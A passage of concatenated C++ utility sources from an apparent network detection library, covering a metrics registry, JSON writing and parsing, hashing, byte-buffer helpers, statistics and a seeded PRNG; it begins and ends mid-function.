    if (h.desc.name == name) return &h;
  }
  return nullptr;
}

std::string RegistrySnapshot::to_json() const {
  JsonWriter j;
  j.begin_object();
  j.key("metrics").begin_array();
  for (const CounterSample& s : scalars) {
    j.begin_object();
    j.field("name", s.desc.name);
    j.field("kind", s.kind == MetricKind::counter ? "counter" : "gauge");
    j.field("unit", s.desc.unit);
    j.field("owner", s.desc.owner);
    j.field("value", s.value);
    j.end_object();
  }
  j.end_array();
  j.key("histograms").begin_array();
  for (const HistogramSample& h : histograms) {
    j.begin_object();
    j.field("name", h.desc.name);
    j.field("unit", h.desc.unit);
    j.field("owner", h.desc.owner);
    j.field("count", h.hist.count);
    j.field("sum", h.hist.sum);
    j.field("min", h.hist.empty() ? 0 : h.hist.min);
    j.field("max", h.hist.max);
    j.field("mean", h.hist.mean());
    j.field("p50", h.hist.p50());
    j.field("p90", h.hist.p90());
    j.field("p99", h.hist.p99());
    // Sparse bucket dump: [index, count] pairs for non-empty buckets, so a
    // consumer can re-merge or re-quantile without 64 mostly-zero cells.
    j.key("buckets").begin_array();
    for (std::size_t i = 0; i < kHistogramBuckets; ++i) {
      if (h.hist.buckets[i] == 0) continue;
      j.begin_array();
      j.value(static_cast<std::uint64_t>(i));
      j.value(h.hist.buckets[i]);
      j.end_array();
    }
    j.end_array();
    j.end_object();
  }
  j.end_array();
  j.end_object();
  return j.str();
}

void MetricsRegistry::add_counter(MetricDesc desc,
                                  const std::atomic<std::uint64_t>* src) {
  std::lock_guard<std::mutex> lk(mu_);
  Entry e;
  e.desc = std::move(desc);
  e.kind = MetricKind::counter;
  e.counter = src;
  entries_.push_back(std::move(e));
}

void MetricsRegistry::add_gauge(MetricDesc desc,
                                std::function<std::uint64_t()> fn) {
  std::lock_guard<std::mutex> lk(mu_);
  Entry e;
  e.desc = std::move(desc);
  e.kind = MetricKind::gauge;
  e.gauge = std::move(fn);
  entries_.push_back(std::move(e));
}

void MetricsRegistry::add_histogram(MetricDesc desc, const LogHistogram* src) {
  std::lock_guard<std::mutex> lk(mu_);
  Entry e;
  e.desc = std::move(desc);
  e.kind = MetricKind::histogram;
  e.hist = src;
  entries_.push_back(std::move(e));
}

void MetricsRegistry::remove_prefix(std::string_view prefix) {
  std::lock_guard<std::mutex> lk(mu_);
  std::erase_if(entries_, [&](const Entry& e) {
    return e.desc.name.size() >= prefix.size() &&
           std::string_view(e.desc.name).substr(0, prefix.size()) == prefix;
  });
}

std::size_t MetricsRegistry::size() const {
  std::lock_guard<std::mutex> lk(mu_);
  return entries_.size();
}

RegistrySnapshot MetricsRegistry::snapshot(SampleScope scope) const {
  std::lock_guard<std::mutex> lk(mu_);
  RegistrySnapshot out;
  for (const Entry& e : entries_) {
    if (!e.desc.live && scope != SampleScope::quiescent) continue;
    switch (e.kind) {
      case MetricKind::counter: {
        CounterSample s;
        s.desc = e.desc;
        s.kind = MetricKind::counter;
        // Acquire, and entries sample in registration order: a registrant
        // that registers "effect" counters before "cause" counters (e.g.
        // processed before fed) thereby guarantees cross-counter
        // invariants like processed <= fed hold in every mid-flight
        // snapshot, provided the writers release-publish the effect.
        s.value = e.counter->load(std::memory_order_acquire);
        out.scalars.push_back(std::move(s));
        break;
      }
      case MetricKind::gauge: {
        CounterSample s;
        s.desc = e.desc;
        s.kind = MetricKind::gauge;
        s.value = e.gauge();
        out.scalars.push_back(std::move(s));
        break;
      }
      case MetricKind::histogram: {
        HistogramSample h;
        h.desc = e.desc;
        h.hist = e.hist->snapshot();
        out.histograms.push_back(std::move(h));
        break;
      }
    }
  }
  return out;
}

}  // namespace sdt::telemetry
