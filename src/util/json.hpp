// Minimal JSON writer — enough for stats/report export without a
// dependency. Handles string escaping and nesting; the caller provides
// well-formed begin/end pairing (asserted in debug builds via the depth
// bookkeeping).
#pragma once

#include <cassert>
#include <cstdio>
#include <cstdint>
#include <string>
#include <string_view>

namespace sdt {

class JsonWriter {
 public:
  JsonWriter& begin_object() {
    separator();
    out_.push_back('{');
    fresh_ = true;
    ++depth_;
    return *this;
  }
  JsonWriter& end_object() {
    assert(depth_ > 0);
    out_.push_back('}');
    fresh_ = false;
    --depth_;
    return *this;
  }
  JsonWriter& begin_array() {
    separator();
    out_.push_back('[');
    fresh_ = true;
    ++depth_;
    return *this;
  }
  JsonWriter& end_array() {
    assert(depth_ > 0);
    out_.push_back(']');
    fresh_ = false;
    --depth_;
    return *this;
  }

  JsonWriter& key(std::string_view k) {
    separator();
    quote(k);
    out_.push_back(':');
    fresh_ = true;  // the value follows without a comma
    return *this;
  }

  JsonWriter& value(std::string_view v) {
    separator();
    quote(v);
    return *this;
  }
  JsonWriter& value(const char* v) { return value(std::string_view(v)); }
  JsonWriter& value(std::uint64_t v) {
    separator();
    out_ += std::to_string(v);
    return *this;
  }
  JsonWriter& value(std::int64_t v) {
    separator();
    out_ += std::to_string(v);
    return *this;
  }
  JsonWriter& value(double v) {
    separator();
    char buf[32];
    std::snprintf(buf, sizeof buf, "%.6g", v);
    out_ += buf;
    return *this;
  }
  JsonWriter& value(bool v) {
    separator();
    out_ += v ? "true" : "false";
    return *this;
  }

  /// key + scalar in one call.
  template <typename T>
  JsonWriter& field(std::string_view k, T v) {
    key(k);
    return value(v);
  }

  /// Splice pre-rendered JSON (one complete value) in value position —
  /// lets a component embed another component's to_json() verbatim. The
  /// caller vouches for well-formedness.
  JsonWriter& raw(std::string_view json) {
    separator();
    out_ += json;
    return *this;
  }

  const std::string& str() const {
    assert(depth_ == 0);
    return out_;
  }

 private:
  void separator() {
    if (!fresh_) out_.push_back(',');
    fresh_ = false;
  }

  void quote(std::string_view s) {
    out_.push_back('"');
    for (const char c : s) {
      switch (c) {
        case '"':
          out_ += "\\\"";
          break;
        case '\\':
          out_ += "\\\\";
          break;
        case '\n':
          out_ += "\\n";
          break;
        case '\r':
          out_ += "\\r";
          break;
        case '\t':
          out_ += "\\t";
          break;
        default:
          if (static_cast<unsigned char>(c) < 0x20) {
            char buf[8];
            std::snprintf(buf, sizeof buf, "\\u%04x", static_cast<unsigned char>(c));
            out_ += buf;
          } else {
            out_.push_back(c);
          }
      }
    }
    out_.push_back('"');
  }

  std::string out_;
  bool fresh_ = true;
  int depth_ = 0;
};

}  // namespace sdt
