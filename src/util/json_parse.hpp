// Minimal JSON reader — the counterpart of JsonWriter, just enough to load
// documents this repo itself wrote (fuzz repros, bench snapshots). Full
// RFC 8259 value grammar minus surrogate-pair escapes (the writer never
// emits them); numbers keep their raw text so 64-bit integers survive
// round-trips that a double would truncate.
#pragma once

#include <cstdint>
#include <map>
#include <memory>
#include <string>
#include <string_view>
#include <vector>

#include "util/error.hpp"

namespace sdt {

class JsonValue {
 public:
  enum class Kind : std::uint8_t { null, boolean, number, string, array, object };

  Kind kind() const { return kind_; }
  bool is_null() const { return kind_ == Kind::null; }

  bool as_bool() const {
    require(Kind::boolean, "bool");
    return bool_;
  }
  /// Numbers parsed from integer text round-trip exactly up to uint64.
  std::uint64_t as_u64() const;
  std::int64_t as_i64() const;
  double as_double() const;
  const std::string& as_string() const {
    require(Kind::string, "string");
    return str_;
  }
  const std::vector<JsonValue>& as_array() const {
    require(Kind::array, "array");
    return arr_;
  }

  /// Object member access. `get` throws ParseError when the key is absent;
  /// `find` returns nullptr instead.
  const JsonValue& get(std::string_view key) const;
  const JsonValue* find(std::string_view key) const;
  bool has(std::string_view key) const { return find(key) != nullptr; }

  /// Convenience typed lookups with defaults (absent key -> fallback).
  std::uint64_t u64_or(std::string_view key, std::uint64_t fallback) const;
  bool bool_or(std::string_view key, bool fallback) const;
  std::string str_or(std::string_view key, std::string fallback) const;

  /// Parse one JSON document (trailing garbage is an error).
  static JsonValue parse(std::string_view text);

 private:
  friend class JsonParser;
  void require(Kind k, const char* what) const;

  Kind kind_ = Kind::null;
  bool bool_ = false;
  std::string num_;  // raw number text
  std::string str_;
  std::vector<JsonValue> arr_;
  std::vector<std::pair<std::string, JsonValue>> obj_;
};

/// Hex encoder shared by repro serialization (lowercase, no prefix; the
/// decoder is util/bytes.hpp's from_hex).
std::string to_hex(const std::uint8_t* data, std::size_t n);

}  // namespace sdt
