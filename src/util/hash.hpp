// Non-cryptographic hashing used by flow tables and the Aho-Corasick sparse
// transition map. Deterministic across runs so trace experiments reproduce.
#pragma once

#include <cstddef>
#include <cstdint>

#include "util/bytes.hpp"

namespace sdt {

/// FNV-1a over a byte view, 64-bit.
inline std::uint64_t fnv1a64(ByteView data) {
  std::uint64_t h = 0xcbf29ce484222325ULL;
  for (std::uint8_t b : data) {
    h ^= b;
    h *= 0x100000001b3ULL;
  }
  return h;
}

/// SplitMix64 finalizer: turns a structured integer (e.g. packed flow tuple)
/// into a well-mixed hash.
inline std::uint64_t mix64(std::uint64_t x) {
  x += 0x9e3779b97f4a7c15ULL;
  x = (x ^ (x >> 30)) * 0xbf58476d1ce4e5b9ULL;
  x = (x ^ (x >> 27)) * 0x94d049bb133111ebULL;
  return x ^ (x >> 31);
}

inline std::uint64_t hash_combine(std::uint64_t seed, std::uint64_t v) {
  return mix64(seed ^ (v + 0x9e3779b97f4a7c15ULL + (seed << 6) + (seed >> 2)));
}

}  // namespace sdt
