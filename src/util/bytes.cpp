#include "util/bytes.hpp"

#include <array>
#include <cctype>

namespace sdt {

std::string hex_dump(ByteView b, std::size_t max_bytes) {
  static constexpr char kHex[] = "0123456789abcdef";
  std::string out;
  const std::size_t n = std::min(b.size(), max_bytes);
  out.reserve(n * 3 + 8);
  for (std::size_t i = 0; i < n; ++i) {
    if (i != 0) out.push_back(' ');
    out.push_back(kHex[b[i] >> 4]);
    out.push_back(kHex[b[i] & 0xf]);
  }
  if (b.size() > max_bytes) out += " ...";
  return out;
}

namespace {
int hex_digit(char c) {
  if (c >= '0' && c <= '9') return c - '0';
  if (c >= 'a' && c <= 'f') return c - 'a' + 10;
  if (c >= 'A' && c <= 'F') return c - 'A' + 10;
  return -1;
}
}  // namespace

Bytes from_hex(std::string_view hex) {
  Bytes out;
  out.reserve(hex.size() / 2);
  int hi = -1;
  for (char c : hex) {
    if (std::isspace(static_cast<unsigned char>(c))) continue;
    const int d = hex_digit(c);
    if (d < 0) throw ParseError(std::string("from_hex: bad character '") + c + "'");
    if (hi < 0) {
      hi = d;
    } else {
      out.push_back(static_cast<std::uint8_t>((hi << 4) | d));
      hi = -1;
    }
  }
  if (hi >= 0) throw ParseError("from_hex: odd number of hex digits");
  return out;
}

}  // namespace sdt
