// Error hierarchy shared by all splitdetect libraries.
//
// Construction-time and I/O failures throw; hot-path parsing returns
// std::optional / error enums instead (see net/packet_view.hpp) so that the
// fast path never pays for exception machinery on malformed input.
#pragma once

#include <stdexcept>
#include <string>

namespace sdt {

/// Base class for all errors thrown by splitdetect libraries.
class Error : public std::runtime_error {
 public:
  explicit Error(const std::string& what) : std::runtime_error(what) {}
};

/// A byte sequence could not be decoded (bad header, truncated record, ...).
class ParseError : public Error {
 public:
  explicit ParseError(const std::string& what) : Error(what) {}
};

/// A file could not be opened / read / written.
class IoError : public Error {
 public:
  explicit IoError(const std::string& what) : Error(what) {}
};

/// An argument violated a documented precondition.
class InvalidArgument : public Error {
 public:
  explicit InvalidArgument(const std::string& what) : Error(what) {}
};

}  // namespace sdt
