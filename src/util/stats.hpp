// Small statistics helpers shared by the simulator, benches and tests:
// streaming mean/variance, fixed-bucket histograms with quantiles, and
// human-readable unit formatting.
#pragma once

#include <algorithm>
#include <chrono>
#include <cmath>
#include <cstdint>
#include <cstdio>
#include <limits>
#include <string>
#include <vector>

#if defined(__linux__) || defined(__APPLE__)
#include <time.h>
#endif

namespace sdt {

/// Nanoseconds of CPU time consumed by the CALLING thread. Use this (not a
/// wall clock) to account per-thread work on oversubscribed hosts: a wall
/// clock charges time the thread spent preempted to whatever it was doing
/// when the scheduler switched it out, which makes per-lane "busy" numbers
/// meaningless once threads outnumber cores. Falls back to steady_clock
/// where no thread CPU clock exists (then busy == wall as before).
inline std::uint64_t thread_cpu_now_ns() {
#if defined(CLOCK_THREAD_CPUTIME_ID)
  timespec ts{};
  if (clock_gettime(CLOCK_THREAD_CPUTIME_ID, &ts) == 0) {
    return static_cast<std::uint64_t>(ts.tv_sec) * 1'000'000'000ull +
           static_cast<std::uint64_t>(ts.tv_nsec);
  }
#endif
  return static_cast<std::uint64_t>(
      std::chrono::duration_cast<std::chrono::nanoseconds>(
          std::chrono::steady_clock::now().time_since_epoch())
          .count());
}

/// Welford streaming mean / variance / min / max.
class RunningStats {
 public:
  void add(double x) {
    ++n_;
    const double d = x - mean_;
    mean_ += d / static_cast<double>(n_);
    m2_ += d * (x - mean_);
    min_ = std::min(min_, x);
    max_ = std::max(max_, x);
  }

  std::uint64_t count() const { return n_; }
  double mean() const { return n_ ? mean_ : 0.0; }
  double variance() const { return n_ > 1 ? m2_ / static_cast<double>(n_ - 1) : 0.0; }
  double stddev() const { return std::sqrt(variance()); }
  double min() const { return n_ ? min_ : 0.0; }
  double max() const { return n_ ? max_ : 0.0; }

 private:
  std::uint64_t n_ = 0;
  double mean_ = 0.0;
  double m2_ = 0.0;
  double min_ = std::numeric_limits<double>::infinity();
  double max_ = -std::numeric_limits<double>::infinity();
};

/// Exact-quantile histogram: stores samples, sorts lazily. Fine for the
/// bench/e2e scale used here (≤ a few million samples).
class Histogram {
 public:
  void add(double x) {
    samples_.push_back(x);
    sorted_ = false;
  }

  std::size_t count() const { return samples_.size(); }

  double quantile(double q) {
    if (samples_.empty()) return 0.0;
    sort_once();
    const double pos = q * static_cast<double>(samples_.size() - 1);
    const auto lo = static_cast<std::size_t>(pos);
    const std::size_t hi = std::min(lo + 1, samples_.size() - 1);
    const double frac = pos - static_cast<double>(lo);
    return samples_[lo] * (1.0 - frac) + samples_[hi] * frac;
  }

  double mean() const {
    if (samples_.empty()) return 0.0;
    double s = 0.0;
    for (double x : samples_) s += x;
    return s / static_cast<double>(samples_.size());
  }

 private:
  void sort_once() {
    if (!sorted_) {
      std::sort(samples_.begin(), samples_.end());
      sorted_ = true;
    }
  }

  std::vector<double> samples_;
  bool sorted_ = true;
};

/// "12.3 K" / "4.56 M" / "7.89 G" formatting for bench tables.
inline std::string human_count(double v) {
  const char* suffix = "";
  if (v >= 1e9) {
    v /= 1e9;
    suffix = " G";
  } else if (v >= 1e6) {
    v /= 1e6;
    suffix = " M";
  } else if (v >= 1e3) {
    v /= 1e3;
    suffix = " K";
  }
  char buf[48];
  std::snprintf(buf, sizeof buf, "%.3g%s", v, suffix);
  return buf;
}

/// Bytes with IEC suffix ("1.5 MiB").
inline std::string human_bytes(double v) {
  const char* suffix = " B";
  if (v >= 1024.0 * 1024.0 * 1024.0) {
    v /= 1024.0 * 1024.0 * 1024.0;
    suffix = " GiB";
  } else if (v >= 1024.0 * 1024.0) {
    v /= 1024.0 * 1024.0;
    suffix = " MiB";
  } else if (v >= 1024.0) {
    v /= 1024.0;
    suffix = " KiB";
  }
  char buf[48];
  std::snprintf(buf, sizeof buf, "%.3g%s", v, suffix);
  return buf;
}

}  // namespace sdt
