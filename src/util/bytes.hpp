// Byte-buffer primitives: views, owned buffers, bounds-checked big-endian
// readers/writers, and hex helpers.
//
// All packet-facing interfaces in this project traffic in ByteView /
// MutableByteView (std::span) rather than (pointer, length) pairs.
#pragma once

#include <cstdint>
#include <cstring>
#include <optional>
#include <span>
#include <string>
#include <string_view>
#include <vector>

#include "util/error.hpp"

namespace sdt {

using ByteView = std::span<const std::uint8_t>;
using MutableByteView = std::span<std::uint8_t>;
using Bytes = std::vector<std::uint8_t>;

/// Bytes of an ASCII string (no terminating NUL).
inline Bytes to_bytes(std::string_view s) {
  return Bytes(s.begin(), s.end());
}

/// View over an ASCII string's bytes. The string must outlive the view.
inline ByteView view_of(std::string_view s) {
  return ByteView(reinterpret_cast<const std::uint8_t*>(s.data()), s.size());
}

inline std::string to_string(ByteView b) {
  return std::string(reinterpret_cast<const char*>(b.data()), b.size());
}

inline bool equal(ByteView a, ByteView b) {
  return a.size() == b.size() &&
         (a.empty() || std::memcmp(a.data(), b.data(), a.size()) == 0);
}

// ---------------------------------------------------------------------------
// Unchecked fixed-offset big-endian accessors. Callers must have validated
// bounds (PacketView does so once per layer).
// ---------------------------------------------------------------------------

inline std::uint8_t rd_u8(ByteView b, std::size_t off) { return b[off]; }

inline std::uint16_t rd_u16be(ByteView b, std::size_t off) {
  return static_cast<std::uint16_t>((std::uint16_t{b[off]} << 8) | b[off + 1]);
}

inline std::uint32_t rd_u32be(ByteView b, std::size_t off) {
  return (std::uint32_t{b[off]} << 24) | (std::uint32_t{b[off + 1]} << 16) |
         (std::uint32_t{b[off + 2]} << 8) | std::uint32_t{b[off + 3]};
}

inline std::uint64_t rd_u64be(ByteView b, std::size_t off) {
  return (std::uint64_t{rd_u32be(b, off)} << 32) | rd_u32be(b, off + 4);
}

inline void wr_u8(MutableByteView b, std::size_t off, std::uint8_t v) {
  b[off] = v;
}

inline void wr_u16be(MutableByteView b, std::size_t off, std::uint16_t v) {
  b[off] = static_cast<std::uint8_t>(v >> 8);
  b[off + 1] = static_cast<std::uint8_t>(v & 0xff);
}

inline void wr_u32be(MutableByteView b, std::size_t off, std::uint32_t v) {
  b[off] = static_cast<std::uint8_t>(v >> 24);
  b[off + 1] = static_cast<std::uint8_t>((v >> 16) & 0xff);
  b[off + 2] = static_cast<std::uint8_t>((v >> 8) & 0xff);
  b[off + 3] = static_cast<std::uint8_t>(v & 0xff);
}

// ---------------------------------------------------------------------------
// Bounds-checked sequential reader (file formats, options walks).
// ---------------------------------------------------------------------------

/// Sequential reader over a ByteView. Reads advance a cursor; running past
/// the end throws ParseError (file-format code) — use remaining()/can_read()
/// to probe first where errors are expected.
class ByteReader {
 public:
  explicit ByteReader(ByteView data) : data_(data) {}

  std::size_t offset() const { return off_; }
  std::size_t remaining() const { return data_.size() - off_; }
  bool can_read(std::size_t n) const { return remaining() >= n; }

  std::uint8_t u8() {
    require(1);
    return data_[off_++];
  }
  std::uint16_t u16be() {
    require(2);
    auto v = rd_u16be(data_, off_);
    off_ += 2;
    return v;
  }
  std::uint32_t u32be() {
    require(4);
    auto v = rd_u32be(data_, off_);
    off_ += 4;
    return v;
  }
  std::uint16_t u16le() {
    require(2);
    auto v = static_cast<std::uint16_t>(std::uint16_t{data_[off_]} |
                                        (std::uint16_t{data_[off_ + 1]} << 8));
    off_ += 2;
    return v;
  }
  std::uint32_t u32le() {
    require(4);
    auto v = std::uint32_t{data_[off_]} | (std::uint32_t{data_[off_ + 1]} << 8) |
             (std::uint32_t{data_[off_ + 2]} << 16) |
             (std::uint32_t{data_[off_ + 3]} << 24);
    off_ += 4;
    return v;
  }

  ByteView bytes(std::size_t n) {
    require(n);
    ByteView v = data_.subspan(off_, n);
    off_ += n;
    return v;
  }

  void skip(std::size_t n) {
    require(n);
    off_ += n;
  }

 private:
  void require(std::size_t n) const {
    if (remaining() < n) {
      throw ParseError("ByteReader: truncated input (need " +
                       std::to_string(n) + " bytes, have " +
                       std::to_string(remaining()) + ")");
    }
  }

  ByteView data_;
  std::size_t off_ = 0;
};

/// Sequential appender building an owned byte buffer.
class ByteWriter {
 public:
  ByteWriter() = default;
  explicit ByteWriter(std::size_t reserve) { buf_.reserve(reserve); }

  std::size_t size() const { return buf_.size(); }

  ByteWriter& u8(std::uint8_t v) {
    buf_.push_back(v);
    return *this;
  }
  ByteWriter& u16be(std::uint16_t v) {
    buf_.push_back(static_cast<std::uint8_t>(v >> 8));
    buf_.push_back(static_cast<std::uint8_t>(v & 0xff));
    return *this;
  }
  ByteWriter& u32be(std::uint32_t v) {
    buf_.push_back(static_cast<std::uint8_t>(v >> 24));
    buf_.push_back(static_cast<std::uint8_t>((v >> 16) & 0xff));
    buf_.push_back(static_cast<std::uint8_t>((v >> 8) & 0xff));
    buf_.push_back(static_cast<std::uint8_t>(v & 0xff));
    return *this;
  }
  ByteWriter& u16le(std::uint16_t v) {
    buf_.push_back(static_cast<std::uint8_t>(v & 0xff));
    buf_.push_back(static_cast<std::uint8_t>(v >> 8));
    return *this;
  }
  ByteWriter& u32le(std::uint32_t v) {
    buf_.push_back(static_cast<std::uint8_t>(v & 0xff));
    buf_.push_back(static_cast<std::uint8_t>((v >> 8) & 0xff));
    buf_.push_back(static_cast<std::uint8_t>((v >> 16) & 0xff));
    buf_.push_back(static_cast<std::uint8_t>(v >> 24));
    return *this;
  }
  ByteWriter& bytes(ByteView v) {
    buf_.insert(buf_.end(), v.begin(), v.end());
    return *this;
  }
  ByteWriter& fill(std::size_t n, std::uint8_t v) {
    buf_.insert(buf_.end(), n, v);
    return *this;
  }

  /// Patch a previously written big-endian u16 in place.
  void patch_u16be(std::size_t off, std::uint16_t v) {
    wr_u16be(buf_, off, v);
  }

  Bytes take() { return std::move(buf_); }
  ByteView view() const { return buf_; }

 private:
  Bytes buf_;
};

/// "de ad be ef"-style dump, for diagnostics and test failure messages.
std::string hex_dump(ByteView b, std::size_t max_bytes = 64);

/// Parse a hex string ("deadbeef", whitespace permitted) into bytes.
/// Throws ParseError on odd length or non-hex characters.
Bytes from_hex(std::string_view hex);

}  // namespace sdt
