// Deterministic PRNG (xoshiro256**) used by the traffic generator, evasion
// transforms and property tests. All experiments seed explicitly, so trace
// synthesis and test sweeps are exactly reproducible.
#pragma once

#include <cstdint>
#include <vector>

#include "util/bytes.hpp"

namespace sdt {

/// xoshiro256** 1.0 (Blackman & Vigna), seeded via SplitMix64.
/// Not cryptographic. Satisfies UniformRandomBitGenerator.
class Rng {
 public:
  using result_type = std::uint64_t;

  explicit Rng(std::uint64_t seed = 0x5eedULL) { reseed(seed); }

  void reseed(std::uint64_t seed) {
    // SplitMix64 expansion, per the xoshiro authors' recommendation.
    std::uint64_t x = seed;
    for (auto& si : s_) {
      x += 0x9e3779b97f4a7c15ULL;
      std::uint64_t z = x;
      z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ULL;
      z = (z ^ (z >> 27)) * 0x94d049bb133111ebULL;
      si = z ^ (z >> 31);
    }
  }

  static constexpr result_type min() { return 0; }
  static constexpr result_type max() { return ~std::uint64_t{0}; }

  std::uint64_t operator()() { return next(); }

  std::uint64_t next() {
    const std::uint64_t result = rotl(s_[1] * 5, 7) * 9;
    const std::uint64_t t = s_[1] << 17;
    s_[2] ^= s_[0];
    s_[3] ^= s_[1];
    s_[1] ^= s_[2];
    s_[0] ^= s_[3];
    s_[2] ^= t;
    s_[3] = rotl(s_[3], 45);
    return result;
  }

  /// Uniform in [0, bound). bound must be > 0. Unbiased (Lemire rejection).
  std::uint64_t below(std::uint64_t bound) {
    // Debiased multiply-shift.
    std::uint64_t x = next();
    __uint128_t m = static_cast<__uint128_t>(x) * bound;
    auto lo = static_cast<std::uint64_t>(m);
    if (lo < bound) {
      const std::uint64_t threshold = (0 - bound) % bound;
      while (lo < threshold) {
        x = next();
        m = static_cast<__uint128_t>(x) * bound;
        lo = static_cast<std::uint64_t>(m);
      }
    }
    return static_cast<std::uint64_t>(m >> 64);
  }

  /// Uniform in [lo, hi] inclusive.
  std::uint64_t range(std::uint64_t lo, std::uint64_t hi) {
    return lo + below(hi - lo + 1);
  }

  /// Uniform double in [0, 1).
  double uniform() {
    return static_cast<double>(next() >> 11) * 0x1.0p-53;
  }

  bool chance(double p) { return uniform() < p; }

  /// Geometric-ish heavy-tailed positive integer via bounded Pareto-like
  /// inverse transform; used for flow-length draws.
  std::uint64_t pareto(double alpha, std::uint64_t lo, std::uint64_t hi);

  Bytes random_bytes(std::size_t n) {
    Bytes out(n);
    for (auto& b : out) b = static_cast<std::uint8_t>(next() & 0xff);
    return out;
  }

  template <typename T>
  void shuffle(std::vector<T>& v) {
    for (std::size_t i = v.size(); i > 1; --i) {
      const std::size_t j = static_cast<std::size_t>(below(i));
      using std::swap;
      swap(v[i - 1], v[j]);
    }
  }

  template <typename T>
  const T& pick(const std::vector<T>& v) {
    return v[static_cast<std::size_t>(below(v.size()))];
  }

 private:
  static std::uint64_t rotl(std::uint64_t x, int k) {
    return (x << k) | (x >> (64 - k));
  }

  std::uint64_t s_[4] = {};
};

}  // namespace sdt
