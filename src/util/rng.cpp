#include "util/rng.hpp"

#include <cmath>

namespace sdt {

std::uint64_t Rng::pareto(double alpha, std::uint64_t lo, std::uint64_t hi) {
  if (lo >= hi) return lo;
  // Bounded Pareto inverse transform on [lo, hi].
  const double l = static_cast<double>(lo);
  const double h = static_cast<double>(hi);
  const double u = uniform();
  const double la = std::pow(l, alpha);
  const double ha = std::pow(h, alpha);
  const double x = std::pow(-(u * ha - u * la - ha) / (ha * la), -1.0 / alpha);
  const auto v = static_cast<std::uint64_t>(x);
  return v < lo ? lo : (v > hi ? hi : v);
}

}  // namespace sdt
