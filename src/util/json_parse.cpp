#include "util/json_parse.hpp"

#include <cctype>
#include <cerrno>
#include <cstdlib>

namespace sdt {

namespace {

bool is_ws(char c) { return c == ' ' || c == '\t' || c == '\n' || c == '\r'; }

int hex_digit(char c) {
  if (c >= '0' && c <= '9') return c - '0';
  if (c >= 'a' && c <= 'f') return c - 'a' + 10;
  if (c >= 'A' && c <= 'F') return c - 'A' + 10;
  return -1;
}

}  // namespace

class JsonParser {
 public:
  explicit JsonParser(std::string_view text) : text_(text) {}

  JsonValue document() {
    JsonValue v = value();
    skip_ws();
    if (pos_ != text_.size()) fail("trailing characters after document");
    return v;
  }

 private:
  [[noreturn]] void fail(const std::string& what) {
    throw ParseError("json: " + what + " at offset " + std::to_string(pos_));
  }

  void skip_ws() {
    while (pos_ < text_.size() && is_ws(text_[pos_])) ++pos_;
  }

  char peek() {
    if (pos_ >= text_.size()) fail("unexpected end of input");
    return text_[pos_];
  }

  void expect(char c) {
    if (peek() != c) fail(std::string("expected '") + c + "'");
    ++pos_;
  }

  bool literal(std::string_view word) {
    if (text_.substr(pos_, word.size()) != word) return false;
    pos_ += word.size();
    return true;
  }

  JsonValue value() {
    skip_ws();
    JsonValue v;
    switch (peek()) {
      case '{':
        return object();
      case '[':
        return array();
      case '"':
        v.kind_ = JsonValue::Kind::string;
        v.str_ = string();
        return v;
      case 't':
        if (!literal("true")) fail("bad literal");
        v.kind_ = JsonValue::Kind::boolean;
        v.bool_ = true;
        return v;
      case 'f':
        if (!literal("false")) fail("bad literal");
        v.kind_ = JsonValue::Kind::boolean;
        v.bool_ = false;
        return v;
      case 'n':
        if (!literal("null")) fail("bad literal");
        return v;
      default:
        return number();
    }
  }

  JsonValue object() {
    expect('{');
    JsonValue v;
    v.kind_ = JsonValue::Kind::object;
    skip_ws();
    if (peek() == '}') {
      ++pos_;
      return v;
    }
    while (true) {
      skip_ws();
      std::string key = string();
      skip_ws();
      expect(':');
      v.obj_.emplace_back(std::move(key), value());
      skip_ws();
      if (peek() == ',') {
        ++pos_;
        continue;
      }
      expect('}');
      return v;
    }
  }

  JsonValue array() {
    expect('[');
    JsonValue v;
    v.kind_ = JsonValue::Kind::array;
    skip_ws();
    if (peek() == ']') {
      ++pos_;
      return v;
    }
    while (true) {
      v.arr_.push_back(value());
      skip_ws();
      if (peek() == ',') {
        ++pos_;
        continue;
      }
      expect(']');
      return v;
    }
  }

  std::string string() {
    expect('"');
    std::string out;
    while (true) {
      if (pos_ >= text_.size()) fail("unterminated string");
      const char c = text_[pos_++];
      if (c == '"') return out;
      if (c != '\\') {
        out.push_back(c);
        continue;
      }
      if (pos_ >= text_.size()) fail("unterminated escape");
      const char e = text_[pos_++];
      switch (e) {
        case '"': out.push_back('"'); break;
        case '\\': out.push_back('\\'); break;
        case '/': out.push_back('/'); break;
        case 'b': out.push_back('\b'); break;
        case 'f': out.push_back('\f'); break;
        case 'n': out.push_back('\n'); break;
        case 'r': out.push_back('\r'); break;
        case 't': out.push_back('\t'); break;
        case 'u': {
          if (pos_ + 4 > text_.size()) fail("truncated \\u escape");
          unsigned cp = 0;
          for (int i = 0; i < 4; ++i) {
            const int d = hex_digit(text_[pos_++]);
            if (d < 0) fail("bad \\u escape");
            cp = cp << 4 | static_cast<unsigned>(d);
          }
          // UTF-8 encode the BMP code point (no surrogate pairs: the
          // writer only escapes control characters).
          if (cp < 0x80) {
            out.push_back(static_cast<char>(cp));
          } else if (cp < 0x800) {
            out.push_back(static_cast<char>(0xc0 | (cp >> 6)));
            out.push_back(static_cast<char>(0x80 | (cp & 0x3f)));
          } else {
            out.push_back(static_cast<char>(0xe0 | (cp >> 12)));
            out.push_back(static_cast<char>(0x80 | ((cp >> 6) & 0x3f)));
            out.push_back(static_cast<char>(0x80 | (cp & 0x3f)));
          }
          break;
        }
        default:
          fail("bad escape");
      }
    }
  }

  JsonValue number() {
    const std::size_t start = pos_;
    if (peek() == '-') ++pos_;
    while (pos_ < text_.size() &&
           (std::isdigit(static_cast<unsigned char>(text_[pos_])) ||
            text_[pos_] == '.' || text_[pos_] == 'e' || text_[pos_] == 'E' ||
            text_[pos_] == '+' || text_[pos_] == '-')) {
      ++pos_;
    }
    if (pos_ == start || (pos_ == start + 1 && text_[start] == '-')) {
      fail("bad number");
    }
    // RFC 8259: no leading zeros ("01" is two tokens, i.e. malformed).
    const std::size_t first = text_[start] == '-' ? start + 1 : start;
    if (text_[first] == '0' && first + 1 < pos_ &&
        std::isdigit(static_cast<unsigned char>(text_[first + 1]))) {
      fail("leading zero in number");
    }
    JsonValue v;
    v.kind_ = JsonValue::Kind::number;
    v.num_ = std::string(text_.substr(start, pos_ - start));
    return v;
  }

  std::string_view text_;
  std::size_t pos_ = 0;
};

void JsonValue::require(Kind k, const char* what) const {
  if (kind_ != k) {
    throw ParseError(std::string("json: value is not a ") + what);
  }
}

std::uint64_t JsonValue::as_u64() const {
  require(Kind::number, "number");
  errno = 0;
  char* end = nullptr;
  const std::uint64_t v = std::strtoull(num_.c_str(), &end, 10);
